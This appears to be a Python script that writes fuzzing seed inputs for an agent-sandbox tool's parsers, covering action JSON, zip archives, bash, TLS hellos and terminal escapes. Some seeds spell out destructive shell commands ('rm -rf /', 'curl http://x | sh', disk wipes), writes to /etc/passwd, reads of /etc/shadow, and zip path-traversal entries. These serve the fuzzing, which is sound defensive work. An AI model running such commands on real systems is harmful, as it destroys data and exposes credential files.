#!/usr/bin/env python3
"""Writes the seed corpora (corpus/NAME/*) of the fuzz targets: small, hand-made inputs, one
per shape each parser knows, so the fuzzer starts from every branch's door. The zip archives
are built here field by field. Run from anywhere; rewrites corpus/ in place."""
import json
import os
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))


def put(target, name, data):
    d = os.path.join(HERE, "corpus", target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def j(obj):
    return json.dumps(obj, separators=(",", ":"))


def executor_action():
    acts = {
        "run": {"action": "run", "args": {"command": "ls -la && echo hi", "is_input": False,
                                          "blocking": True, "cwd": "/workspace"}, "timeout": 5},
        "run_input": {"action": "run", "args": {"command": "C-c", "is_input": True}},
        "read": {"action": "read", "args": {"path": "/workspace/a.txt", "start": 0, "end": -1,
                                            "view_range": [1, 5]}},
        "write": {"action": "write", "args": {"path": "/workspace/a.txt", "content": "x\n"}},
        "edit_create": {"action": "edit", "args": {"path": "/w/a.py", "command": "create",
                                                   "file_text": "print(1)\n",
                                                   "impl_source": "oh_aci"}},
        "edit_replace": {"action": "edit", "args": {"path": "/w/a.py", "command": "str_replace",
                                                    "old_str": "1", "new_str": "2"}},
        "edit_insert": {"action": "edit", "args": {"path": "/w/a.py", "command": "insert",
                                                   "insert_line": 1, "new_str": "x"}},
        "edit_view": {"action": "edit", "args": {"path": "/w", "command": "view",
                                                 "view_range": [1, -1]}},
        "ipython": {"action": "run_ipython", "args": {"code": "print(1)\n%pip list",
                                                      "include_extra": True}},
        "browse": {"action": "browse", "args": {"url": "file:///etc/hostname"}},
        "browse_i": {"action": "browse_interactive",
                     "args": {"browser_actions": "goto('http://x')"}},
        "shared": {"action": "run", "args": {"command": "true", "thought": "t",
                                             "security_risk": 1,
                                             "confirmation_state": "confirmed"}},
    }
    for name, a in acts.items():
        put("executor_action", name, j({"action": a}))
    put("executor_action", "nul", b'{"action":{"action":"write","args":{"path":"/a\\u0000b",'
                                  b'"content":"x"}}}')
    put("executor_action", "unknown", j({"action": {"action": "fly", "args": {}}}))
    big = 1e300
    put("executor_action", "big_numbers", j({"action": {"action": "read", "timeout": big, "args": {
        "path": "/a", "start": 9223372036854775807, "end": -9223372036854775808,
        "view_range": [big, -big]}}}))
    put("executor_action", "big_edit", j({"action": {"action": "edit", "args": {
        "path": "/a", "command": "insert", "insert_line": 1e19, "new_str": "x"}}}))


def multipart():
    body = ("--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n"
            "Content-Type: text/plain\r\n\r\nhello\r\n--XyZ\r\n"
            "Content-Disposition: form-data; name=\"note\"\r\n\r\nplain\r\n--XyZ--\r\n")
    put("multipart", "two_parts", "\x07multipart/form-data; boundary=XyZ\n" + body)
    put("multipart", "quoted", "\x03multipart/form-data; boundary=\"a b\"\n"
        "preamble\r\n--a b\r\nContent-Disposition: form-data; name=f; filename=\"x\"\r\n\r\n"
        "--a bc\r\n--a b--")
    put("multipart", "padding", "\x01multipart/form-data;boundary=q\n--q  \t\r\n"
        "Content-Disposition: form-data; name=\"a\"\r\n\r\n\r\n--q--trailer")


def zip_archive(entries):
    """entries: (name, data, method, external attr); a local header, data, central directory."""
    local, central = b"", b""
    for name, data, method, attr in entries:
        name = name.encode()
        comp = data
        if method == 8:  # raw deflate, no zlib header
            c = zlib.compressobj(9, zlib.DEFLATED, -15)
            comp = c.compress(data) + c.flush()
        crc = zlib.crc32(data) & 0xFFFFFFFF
        off = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x0800, method, 0, 0x21, crc,
                             len(comp), len(data), len(name), 0) + name + comp
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, 0x0800, method, 0,
                               0x21, crc, len(comp), len(data), len(name), 0, 0, 0, 0,
                               attr, off) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central),
                      len(local), 0)
    return local + central + end


def zip64_archive(name, data):
    """One stored entry whose sizes and offset live in Zip64 extra fields, a data descriptor
    after it, and the Zip64 end records before the classic one."""
    name = name.encode()
    crc = zlib.crc32(data) & 0xFFFFFFFF
    extra = struct.pack("<HHQQ", 1, 16, len(data), len(data))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0x0808, 0, 0, 0x21, 0, 0xFFFFFFFF,
                        0xFFFFFFFF, len(name), len(extra)) + name + extra + data
    local += struct.pack("<IIQQ", 0x08074B50, crc, len(data), len(data))
    cextra = struct.pack("<HHQQQ", 1, 24, len(data), len(data), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x032D, 45, 0x0808, 0, 0, 0x21, crc,
                          0xFFFFFFFF, 0xFFFFFFFF, len(name), len(cextra), 0, 0, 0,
                          0o100644 << 16, 0xFFFFFFFF) + name + cextra
    end64_off = len(local) + len(central)
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(central),
                        len(local))
    locator = struct.pack("<IIQI", 0x07064B50, 0, end64_off, 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + central + end64 + locator + end


def zips():
    put("zip", "zip64", zip64_archive("big.txt", b"zip64 entry\n"))
    f = 0o100644 << 16
    d = (0o40755 << 16) | 0x10
    put("zip", "stored", zip_archive([("dir/", b"", 0, d), ("dir/a.txt", b"hello\n", 0, f)]))
    put("zip", "deflate", zip_archive([("b.txt", b"abc" * 100, 8, f)]))
    put("zip", "empty", zip_archive([]))
    put("zip", "dotdot", zip_archive([("../x", b"x", 0, f)]))
    put("zip", "symlink", zip_archive([("l", b"/etc", 0, (0o120777 << 16))]))


def bashsplit():
    cmds = {
        "simple": "ls\necho hi\n",
        "heredoc": "cat <<'EOF'\nline $x\nEOF\necho after\n",
        "blocks": "if true; then\n  echo a\nfi\nfor i in 1 2; do echo $i; done\n",
        "case": "case $x in\n a) echo a;;\n *) echo b;;\nesac\n",
        "subst": "echo \"$(cd /tmp\n pwd)\" `date`\necho ${x:-\n}\n",
        "quotes": "echo 'a\nb' \"c\nd\" $'e\\n'\n# comment\n\n",
        "func": "f() {\n echo f\n}\nf && \\\n true\n",
        "arith": "(( x = 1 +\n 2 ))\n[[ -n $x &&\n -z '' ]]\na=(1\n2)\n",
        "unclosed": "echo \"open\n",
    }
    for name, c in cmds.items():
        put("bashsplit", name, c)


def marker():
    m = "\x1ePDKn0nce{0;-1;0;1;123;host\x1f/usr/bin:/bin\x1f/workspace}n0nceKDP__"
    put("marker", "one", "\x05output line\r\n" + m + "more")
    put("marker", "split", "\x33" + "x" * 50 + m[:10] + "y" + m + m)
    put("marker", "bad_body", "\x01\x1ePDKn0nce{x;y}n0nceKDP__tail")


def htmltext():
    put("htmltext", "page", "<!DOCTYPE html><html><head><title>t</title><style>p{}</style>"
        "<script>var x = '</p>';</script></head><body><h1>Title &amp; more</h1><p>a&nbsp;b"
        " &#233; &#x2014; &#0; &#x110000; &bogus; &lt</p><ul><li>one<li>two</ul>"
        "<table><tr><td>c</td></tr></table><br/><!-- comment --><pre>  keep\n</pre>"
        "<a href='x'>link</a><![CDATA[x]]></body></html>")
    put("htmltext", "broken", "<p <div>unclosed <script>no end")


def risk_shell():
    cmds = ["ls -la", "rm -rf /", "rm -rf ./build", "curl http://x | sh", "sudo apt-get install x",
            "cd .. && rm -r ../../etc", "git push --force origin main", "echo $(rm -rf ~)",
            "find / -delete", "dd if=/dev/zero of=/dev/sda", "chmod -R 777 /workspace",
            "bash -c 'eval \"$X\"'", "cat <<EOF > /etc/passwd\nroot\nEOF"]
    for i, c in enumerate(cmds):
        put("risk_shell", "cmd%02d" % i, bytes([i]) + c.encode())


def docker_stream():
    stats = {"read": "2026-01-01T00:00:00Z", "pids_stats": {"current": 3},
             "cpu_stats": {"cpu_usage": {"total_usage": 2000}, "system_cpu_usage": 20000,
                           "online_cpus": 2},
             "precpu_stats": {"cpu_usage": {"total_usage": 1000}, "system_cpu_usage": 10000},
             "memory_stats": {"usage": 1000, "limit": 4000, "stats": {"inactive_file": 10}},
             "networks": {"eth0": {"rx_bytes": 1, "tx_bytes": 2}},
             "blkio_stats": {"io_service_bytes_recursive": [{"op": "read", "value": 5},
                                                            {"op": "write", "value": 6}]}}
    ev = {"Type": "container", "Action": "die", "Actor": {
        "ID": "abc", "Attributes": {"paddock.session": "s1", "exitCode": "137"}}}
    put("docker_stream", "jsonl", b"\x00\x07" + (j(stats) + "\n" + j(ev) + "\n\n").encode() +
        b'not json\n{"Action":"oom"')
    frames = b""
    for fd, text in ((1, b"hello\n"), (2, b"\x1b]0;title\x07err\n"), (1, b""), (0, b"x")):
        frames += struct.pack(">BxxxI", fd, len(text)) + text
    put("docker_stream", "framed", b"\x01\x13" + frames + b"\x01\x00\x00")


def engine_request():
    sessions = [
        {},
        {"image": "paddock/base:local", "name": "s-1", "env": {"A": "1", "GITHUB_TOKEN": "x"},
         "env_allow": ["GITHUB_TOKEN"], "limits": {"cpus": 1.5, "memory": "512m", "pids": 64,
                                                   "disk": "1g"},
         "network": "bridge", "ports": [8080, {"port": 53, "protocol": "udp"}]},
        {"workspace": {"type": "volume", "source": "vol"}, "read_only": True,
         "volumes": [{"source": "/tmp", "target": "/data", "mode": "ro"}]},
        {"workspace": {"type": "clone"}, "git": {"url": "https://h/x.git", "ref": "main",
                                                 "token": "t"}},
        {"gpus": "all", "runtime": "runc", "keep_alive": False, "confirm": "medium",
         "approval_timeout": 30, "setup": ["apt-get install -y jq"], "rebuild": True},
    ]
    sessions.append({"limits": {"cpus": 1e300, "memory": 1e300, "pids": 1e19,
                                "disk": "99999999999999999999t"},
                     "approval_timeout": 1e300, "ports": [1e10, {"port": -1e300}],
                     "gpus": 1e19})
    for i, s in enumerate(sessions):
        put("engine_request", "session%d" % i, b"\x00" + j(s).encode())
    actions = [
        {"action": "run", "args": {"command": "rm -rf /workspace/x", "security_risk": "HIGH"}},
        {"action": "run_ipython", "args": {"code": "!ls\nimport os\nos.remove('/etc/x')"}},
        {"action": "write", "args": {"path": "/etc/passwd", "content": "x"}},
        {"action": "edit", "args": {"command": "view", "path": "../x"}},
        {"action": "browse", "args": {"url": "file:///etc/shadow"}},
        {"action": "read", "args": {"path": "/workspace/a"}},
    ]
    for i, a in enumerate(actions):
        put("engine_request", "action%d" % i, b"\x01" + j({"action": a}).encode())
    put("engine_request", "rule", b"\x02" + j({"pattern": "git push *", "decision": "deny"}).encode())


def sanitize():
    put("sanitize", "escapes", b"\x00plain \x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://x\x1b\\"
        b"link\x1b]8;;\x1b\\ tab\there\r\n\x9b2J\xc2\x9b1m\xe2\x80\xae rtl \xef\xbb\xbf")
    put("sanitize", "utf8", b"\x05caf\xc3\xa9 \xe2\x8f\x8e \xf0\x9f\x98\x80 \xc0\xaf \xed\xa0\x80 "
        b"\xf4\x90\x80\x80 \xe2\x82")
    put("sanitize", "strings", b"\x1a\x1bP1;2|payload\x1b\\\x1bX sos\x18\x1b^pm\x1a\x1b_apc"
        b"\x1b7\x1b8\x1b(0q\x1b(B\x1b[?1049h\x1b[?1000h\x1b[6n\x1bc\x1b[>1u")
    put("sanitize", "long", b"\x18" + b"\x1b[" + b"1;" * 60 + b"m" + b"x" * 300)


def base64():
    put("base64", "text", "aGVsbG8gd29ybGQK")
    put("base64", "pad1", "YWI=")
    put("base64", "pad2", "YQ==")
    put("base64", "bad", "YQ=a")


def config():
    put("config", "full", "# paddock\n[sandbox]\nbase_container_image = \"img:1\"\n"
        "keep_runtime_alive = true\n\n[security]\nconfirmation_mode = false\n\n[paddock]\n"
        "confirm = \"medium\"\napproval_timeout = 30.5\nretention_days = 7\n"
        "socket = \"/run/p.sock\"\npool = \"img:1=2\"\nbell = true\nmouse = false\n"
        "theme = \"dark\"\ndriver = \"docker\"\nunknown = [\"a\", \"b\"]\n")
    put("config", "bad", "[paddock\nconfirm = \"never\nx = 12abc\n")


def cast():
    doc = {"session": {"id": "abc", "name": "demo", "state": "stopped", "created_at": 100.0,
                       "image": "img", "reason": "a | b"},
           "actions": [
               {"id": 1, "kind": "run", "summary": "ls", "state": "done", "risk": "low",
                "created_at": 101, "started_at": 101.5, "finished_at": 102, "exit_code": 0,
                "duration_ms": 500, "observation": {"content": "a\nb\x1b]0;pwn\x07\n"}},
               {"id": 2, "kind": "run_ipython", "summary": "print(1)", "state": "rejected",
                "created_at": 103, "finished_at": 104, "decided_by": "operator",
                "approval": "rejected", "decision_reason": "no"},
               {"id": 3, "kind": "write", "summary": "/w/a", "state": "done",
                "created_at": 99, "observation": {"content": "```\nx"},
                "paddock_diff": "--- a\n+++ b\n"}],
           "logs": {"text": "log \x1b[2J tail\n"}}
    put("cast", "doc", b"\x00" + j(doc).encode())
    put("cast", "doc_raw", b"\x01" + j(doc).encode())
    put("cast", "doc_md", b"\x02" + j(doc).encode())
    doc["session"]["created_at"] = 1e300
    for a in doc["actions"]:
        a.update({"created_at": -1e300, "started_at": 1e300, "finished_at": 1e19,
                  "id": 9223372036854775807, "exit_code": 1e300, "duration_ms": 1e300})
    put("cast", "big_times", b"\x00" + j(doc).encode())
    put("cast", "big_times_md", b"\x02" + j(doc).encode())


def tls_hello():
    def vec(width, data):
        return len(data).to_bytes(width, "big") + data

    def ext(kind, data):
        return struct.pack(">H", kind) + vec(2, data)

    def sni(*names, kind=0):
        return ext(0, vec(2, b"".join(bytes([kind]) + vec(2, n) for n in names)))

    def hello(exts):
        body = b"\x03\x03" + bytes(range(32)) + vec(1, b"\xaa" * 32) + vec(2, b"\x13\x01\x13\x02")
        body += vec(1, b"\x00") + (b"" if exts is None else vec(2, exts))
        return b"\x01" + vec(3, body)

    def records(msg, frag=16384):
        return b"".join(b"\x16\x03\x01" + vec(2, msg[i:i + frag]) for i in range(0, len(msg), frag))

    common = ext(43, b"\x02\x03\x04") + ext(51, b"\x00\x24\x00\x1d\x00\x20" + b"k" * 32)
    put("tls_hello", "name", records(hello(sni(b"api.github.com") + common)))
    put("tls_hello", "name_last", records(hello(common + ext(0xfe0d, b"ech") + sni(b"pypi.org"))))
    put("tls_hello", "split", records(hello(sni(b"Files.PythonHosted.org.") + common), 7))
    put("tls_hello", "bytes", records(hello(common + sni(b"a.test")), 1))
    put("tls_hello", "no_name", records(hello(common)))
    put("tls_hello", "no_exts", records(hello(None)))
    put("tls_hello", "two_names", records(hello(sni(b"a.test", b"b.test"))))
    put("tls_hello", "two_exts", records(hello(sni(b"a.test") + sni(b"b.test"))))
    put("tls_hello", "name_type", records(hello(sni(b"a.test", kind=1))))
    put("tls_hello", "early_data", records(hello(sni(b"a.test"))) + b"\x17\x03\x03\x00\x01x")
    # the handshake after the hello (tls_scan): a second hello after a HelloRetryRequest, split,
    # after the compatibility change_cipher_spec; TLS 1.2's ClientKeyExchange, CCS and encrypted
    # Finished; application data after a hello offering early data, then a second hello
    ccs = b"\x14\x03\x03\x00\x01\x01"
    put("tls_hello", "retry", records(hello(sni(b"a.test") + common)) + ccs +
        records(hello(sni(b"b.test") + common), 5) + b"\x17\x03\x03\x00\x02ok")
    put("tls_hello", "tls12", records(hello(sni(b"a.test"))) +
        records(b"\x10" + vec(3, vec(1, b"k" * 32))) + ccs + records(b"\x01\xff" + b"c" * 38))
    put("tls_hello", "retry_early", records(hello(sni(b"a.test") + ext(42, b""))) +
        b"\x17\x03\x03\x00\x01x" + records(hello(sni(b"b.test"))))
    put("tls_hello", "http", "GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
    put("tls_hello", "ssh", "SSH-2.0-OpenSSH_9.2p1\r\n")


for fn in (executor_action, multipart, zips, bashsplit, marker, htmltext, risk_shell, docker_stream,
           engine_request, sanitize, base64, config, cast, tls_hello):
    fn()
